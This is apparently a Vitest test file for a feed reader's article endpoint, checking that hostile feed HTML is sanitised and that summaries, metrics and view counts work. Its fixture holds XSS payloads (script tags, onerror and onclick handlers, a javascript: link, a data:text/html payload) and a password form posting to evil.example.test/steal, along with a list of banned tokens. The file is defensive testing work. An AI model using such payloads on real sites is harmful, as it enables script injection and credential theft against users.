import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../helpers/app.js';
import { cacheKinds, dbKinds } from '../helpers/db.js';
import { makeArticle, makeTopic, setMetric, type ArticleRow } from '../helpers/article-factories.js';

const HOSTILE = `<p>Intro <b>bold</b> <img src="https://img.example.test/fig1.png" alt="Figure 1" onerror="alert(1)" onload="alert(2)">
<script>alert(3)</script><style>body{display:none}</style>
<iframe src="https://evil.example.test/frame"></iframe><object data="x.swf"></object><embed src="y.swf">
<form action="https://evil.example.test/steal"><input name="password"><button>Go</button></form>
<a href="javascript:alert(4)">bad link</a> <a href="/paper/2" onclick="alert(5)">relative</a>
<a href="mailto:editor@example.test">mail</a></p>
<ul><li>first</li><li>second</li></ul><h2>Method</h2><table><tr><td>1</td></tr></table>
<pre><code class="language-python">print("hi")</code></pre><blockquote>quoted</blockquote>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline"><img src="data:text/html;base64,PHNjcmlwdD4=" alt="smuggled">
<div onmouseover="alert(6)" style="position:fixed">hover</div><svg><script>alert(7)</script></svg></p>`;

describe.each(dbKinds().flatMap((d) => cacheKinds().map((c) => [d, c] as const)))(
  'the reader view on %s with the %s cache',
  (kind, cache) => {
    let t: TestApp;
    let topic: string;
    let article: ArticleRow;

    beforeAll(async () => {
      t = await buildTestApp({ db: kind, cache });
      const db = t.container.database.db;
      topic = (await makeTopic(db)).id;
      article = await makeArticle(db, {
        topicId: topic,
        url: 'https://journal.example.test/paper/1',
        title: 'A hostile feed item',
        metadata: { content_html: HOSTILE, feed_summary: 'plain summary' },
      });
    });
    afterAll(() => t?.close());

    it('serves the feed content as sanitised HTML: reading markup kept, nothing executable', async () => {
      const res = await t.app.inject({ method: 'GET', url: `/articles/${article.id}` });
      expect(res.statusCode).toBe(200);
      const html = res.json<{ content_html: string }>().content_html;
      for (const banned of [
        '<script',
        'alert(',
        '<style',
        '<iframe',
        '<object',
        '<embed',
        '<form',
        '<input',
        '<button',
        'onerror',
        'onload',
        'onclick',
        'onmouseover',
        'javascript:',
        'data:text',
        'style=',
        '<svg',
      ])
        expect(html, banned).not.toContain(banned);
      expect(html).toMatch(/<img alt="Figure 1" src="https:\/\/img\.example\.test\/fig1\.png"[^>]*>/);
      expect(html).toMatch(/<img alt="inline" src="data:image\/png;base64,iVBORw0KGgo="[^>]*>/);
      expect(html).not.toContain('smuggled');
      expect(html).toContain('<ul><li>first</li><li>second</li></ul>');
      expect(html).toContain('<h2>Method</h2>');
      expect(html).toContain('<td>1</td>');
      expect(html).toContain('<code class="language-python">');
      expect(html).toContain('<blockquote>quoted</blockquote>');
      // relative links resolved against the article, every link in a new tab without opener
      expect(html).toContain(
        '<a href="https://journal.example.test/paper/2" rel="noopener noreferrer" target="_blank">relative</a>',
      );
      expect(html).toContain('href="mailto:editor@example.test"');
      const links = html.match(/<a [^>]*>/g) ?? [];
      expect(links).toHaveLength(3);
      for (const a of links) expect(a).toContain('rel="noopener noreferrer" target="_blank"');
    });

    it('falls back to the feed summary, and answers null without either', async () => {
      const db = t.container.database.db;
      const summaryOnly = await makeArticle(db, {
        topicId: topic,
        metadata: { feed_summary: 'a < b & <em>c</em>' },
      });
      const r1 = await t.app.inject({ method: 'GET', url: `/articles/${summaryOnly.id}` });
      expect(r1.json().content_html).toBe('a &lt; b &amp; <em>c</em>');
      const bare = await makeArticle(db, { topicId: topic });
      expect(
        (await t.app.inject({ method: 'GET', url: `/articles/${bare.id}` })).json().content_html,
      ).toBeNull();
    });

    it('lists each enabled metric with its source and fetch date', async () => {
      const db = t.container.database.db;
      await setMetric(db, article.id, 'citation_count', 42, 'openalex');
      const body = (await t.app.inject({ method: 'GET', url: `/articles/${article.id}` })).json();
      expect(body.metrics).toEqual({ citation_count: 42 });
      expect(body.metric_details).toHaveLength(1);
      expect(body.metric_details[0]).toMatchObject({ key: 'citation_count', value: 42, source: 'openalex' });
      expect(Date.now() - Date.parse(body.metric_details[0].fetched_at)).toBeLessThan(60_000);
    });

    it('counts views not yet flushed in view_count, once', async () => {
      const db = t.container.database.db;
      const fresh = await makeArticle(db, { topicId: topic });
      const detail = async () =>
        (await t.app.inject({ method: 'GET', url: `/articles/${fresh.id}` })).json<{ view_count: number }>()
          .view_count;
      expect(await detail()).toBe(0);
      for (const ip of ['203.0.113.1', '203.0.113.2', '203.0.113.2'])
        await t.app.inject({
          method: 'POST',
          url: `/articles/${fresh.id}/view`,
          headers: { 'x-forwarded-for': ip },
        });
      expect(await detail()).toBe(2);
      await t.container.services.views.flush();
      expect(await detail()).toBe(2);
      await t.app.inject({
        method: 'POST',
        url: `/articles/${fresh.id}/view`,
        headers: { 'x-forwarded-for': '203.0.113.3' },
      });
      expect(await detail()).toBe(3);
    });
  },
);
